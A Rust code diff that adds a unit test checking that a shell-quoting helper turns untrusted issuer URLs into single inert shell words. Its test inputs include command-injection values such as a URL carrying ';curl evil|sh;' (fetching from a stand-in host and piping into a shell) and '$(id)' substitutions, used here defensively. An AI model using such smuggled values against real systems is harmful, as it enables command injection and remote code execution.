@@ -233,3 +233,29 @@ fn in_the_other_modes_the_block_is_the_providers_or_none() {
         [("headscale.config.issuer".to_owned(), Level::Failure)]
     );
 }
+
+#[test]
+fn what_a_stranger_chose_is_one_word_to_the_shell_that_it_is_pasted_into() {
+    for (text, word) in [
+        ("https://id.old/realms/a_b~c", "https://id.old/realms/a_b~c"),
+        (
+            "https://old/x;curl evil|sh;",
+            "'https://old/x;curl evil|sh;'",
+        ),
+        ("https://old/$(id)`id`", "'https://old/$(id)`id`'"),
+        ("a'b", "'a'\\''b'"),
+        ("-x", "'-x'"),
+        ("", "''"),
+    ] {
+        assert_eq!(for_shell(text), word);
+        let said = std::process::Command::new("sh")
+            .args(["-c", &format!("printf %s {word}")])
+            .output()
+            .unwrap();
+        assert_eq!(said.stdout, text.as_bytes(), "{text}");
+    }
+    let users = r#"{"users":[{"providerId":"https://old/x;id;/y"}]}"#;
+    let finding = judge_users(users.as_bytes(), &Issuer::new("https://id.company/"));
+    let told = format!("{finding:?}");
+    assert!(told.contains("--from 'https://old/x;id;'"), "{told}");
+}
